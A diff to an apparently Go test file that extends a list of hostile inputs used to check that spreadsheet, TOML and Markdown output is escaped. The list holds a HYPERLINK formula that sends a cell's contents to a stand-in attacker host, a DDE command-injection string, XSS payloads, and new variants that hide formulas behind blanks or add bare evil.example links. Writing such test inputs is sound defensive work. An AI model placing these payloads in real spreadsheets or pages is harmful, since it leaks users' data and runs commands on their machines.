@@ -30,6 +30,9 @@ var attacks = []string{
 	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
 	"<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "<script>&amp;</script>",
 	"| pipe | cell |", "\\", "`code`",
+	"\n=1+1", "\u200b\u00a0=1+1", // a formula after blanks
+	"https://evil.example", "www.evil.example", "boss@evil.example", // bare addresses GFM links
+	"*em* _em_ ~~gone~~", "# heading", // emphasis, strike-through, a block marker
 }
 
 // tomlString writes s as a TOML basic string, every control as \uXXXX.
